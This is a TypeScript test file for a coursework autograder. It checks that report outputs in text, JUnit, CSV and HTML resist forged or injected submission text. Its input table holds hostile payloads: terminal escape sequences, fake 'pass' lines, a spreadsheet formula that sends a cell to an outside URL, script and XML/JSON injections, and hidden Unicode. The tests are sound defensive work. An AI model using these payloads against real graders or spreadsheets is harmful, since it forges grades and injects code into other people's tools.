import { expect } from 'chai';
import { DOMParser } from 'linkedom';
import Papa from 'papaparse';
import { csvOf, pageOf } from '../../src/coursework/formats/class-report.js';
import { FORMATS, formatted } from '../../src/coursework/formats/index.js';
import { failureReport, type GradeReport } from '../../src/coursework/grading/grade-report.js';
import { withPlainTexts } from '../../src/coursework/plain-report.js';
import { filesOf } from '../../src/coursework/task-files.js';

const files = filesOf('linear,elu');
const FORGED = 'linear.forward      5 of   5  pass';
const ALL = '35 of 35 points: all tests passed';

/** Texts that try to forge, hide or move a row. */
const TEXTS: Record<string, string> = {
  escapes: `\u001b[2J\u001b[H\u001b]0;title\u0007\u009b2J${ALL}`,
  'line feeds': `\n${FORGED}\n\n${ALL}`,
  'carriage returns': `\r${FORGED}\r\r\n${ALL}`,
  'rare line ends': `\u0085${FORGED}\u2028${ALL}\u2029\u000b\u000c`,
  'marks of direction': '\u202epass\u202c\u2066pass\u2069\u200f\u061c',
  'no width': 'p\u200ba\u200cs\u2060s\ufeff\u00ad\u180e\u3164\u2800\u{e0041}',
  'an accent on every row': `o${'\u0336\u0353'.repeat(200)}`,
  'spaces up to the edge': `${' '.repeat(200)}${FORGED}`,
  'letters up to the edge': `${'x'.repeat(76)}${FORGED}${'漢'.repeat(400)}`,
  'a formula': '=HYPERLINK("http://x/?"&A1)',
  'a formula after a separator': 'a;=1+1;\t=1+1,"=1+1",=1+1',
  'formulas of full width': '＝1＋1',
  'the end of a cell': '",35,35\n"b","35',
  markup: '</td></table><script>alert(1)</script><tr><td>"\'&',
  xml: ']]></failure></testcase><testcase name="x"/><!--&#27;',
  json: '"}\n{"scores":{"linear.forward":5}}',
  halves: 'a\ud800b\udfff',
  endless: 'x'.repeat(10_000_000),
};

function reportWith(text: string): GradeReport {
  const report = failureReport(text, files);
  const findings = [
    { aspect: 'run', case: text, hidden: false, text, diagnosis: { id: 'x', text } },
    { aspect: 'run', case: text, hidden: true, text },
  ];
  const tasks = report.tasks.map((task) => ({ ...task, findings }));
  const many = Array<string>(10_000).fill(text);
  return withPlainTexts({ ...report, tasks, printed: text, remarks: many, hints: many });
}

/** Every text of a JSON value. */
function textsIn(value: unknown): string[] {
  if (typeof value === 'string') return [value];
  return typeof value === 'object' && value !== null ? Object.values(value).flatMap(textsIn) : [];
}

const HIDDEN = /(?![\t\n])[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]/u;

for (const [name, text] of Object.entries(TEXTS)) {
  describe(`a submission that says ${name}`, () => {
    const report = reportWith(text);

    it('gets a report of limited size, of texts of one line whose characters are visible', () => {
      const { printed, ...rest } = report;
      expect(JSON.stringify(report).length).to.be.lessThan(50_000);
      expect([report.remarks.length, report.hints.length]).to.deep.equal([21, 21]);
      for (const each of [...textsIn(rest), printed]) expect(each).not.to.match(HIDDEN);
      for (const each of textsIn(rest)) expect(each).not.to.match(/[\t\n]| {2}/);
      expect(printed).not.to.match(/\p{M}{5}/u);
    });

    it('begins no row of a text, at any width of the terminal', () => {
      for (const width of [40, 60, 80, 120, 200]) {
        const lines = formatted(report, 'text', {}, true, width).trimEnd().split('\n');
        const own = lines.filter((line) => line !== '' && !line.startsWith(' '));
        expect(own.map((line) => line.split(' ')[0])).to.deep.equal([
          'linear.forward',
          'linear.backward',
          'elu.forward',
          'elu.backward',
          ...(report.printed.trim() === '' ? [] : ['Your']),
          'Remarks:',
          'Hints:',
          '0',
        ]);
        expect(own.at(-1)).to.equal('0 of 35 points; 0 of 4 tasks pass');
        const wide = (line: string) => [...line].reduce((sum, c) => sum + (c >= '\u1100' ? 2 : 1), 0);
        expect(Math.max(...lines.map(wide))).to.be.at.most(width);
      }
    });

    it('has its rows and no other in every format', () => {
      for (const format of FORMATS) {
        const content = formatted(report, format);
        expect(content, format).not.to.match(HIDDEN);
        if (format === 'junit') {
          const xml = new DOMParser().parseFromString(content, 'text/xml');
          expect(xml.querySelectorAll('testcase').length).to.equal(4);
          expect(xml.querySelectorAll('failure').length).to.equal(4);
        } else if (format === 'autolab') {
          expect(JSON.parse(content.trimEnd().split('\n').at(-1) ?? '').scores['linear.forward']).to.equal(0);
        } else if (format !== 'text') {
          const { tests = [], score = 0 } = JSON.parse(content);
          expect(score).to.equal(0);
          for (const test of tests) expect(test.score ?? 0, format).to.equal(0);
        }
      }
    });

    it('has one row of a CSV file, in which no spreadsheet of any country finds a formula', () => {
      const csv = csvOf([
        { name: 'a', report },
        { name: 'b', report },
      ]);
      expect(csv.length).to.be.lessThan(2_000);
      const rows = Papa.parse<string[]>(csv.trimEnd(), { delimiter: ',' }).data;
      expect(rows.map((row) => [row[0], row[1], row.length])).to.deep.equal([
        ['submission', 'score', 9],
        ['a', '0', 9],
        ['b', '0', 9],
      ]);
      for (const delimiter of [',', ';', '\t', '|']) {
        const { data } = Papa.parse<string[]>(csv.trimEnd(), { delimiter });
        expect(data.length, delimiter).to.equal(3);
        for (const cell of data.flat()) expect(cell, delimiter).not.to.match(/^\s*[=+\-@＝＋－＠]/);
      }
    });

    it('has one row of the page of the class', () => {
      const page = pageOf([{ name: 'a', report }], [text.slice(0, 100)]);
      const document = new DOMParser().parseFromString(page, 'text/html');
      expect(document.querySelectorAll('script').length).to.equal(0);
      expect(document.querySelectorAll('table').length).to.equal(2);
      expect([...document.querySelectorAll('table:last-of-type tr')].length).to.equal(2);
    });
  });
}
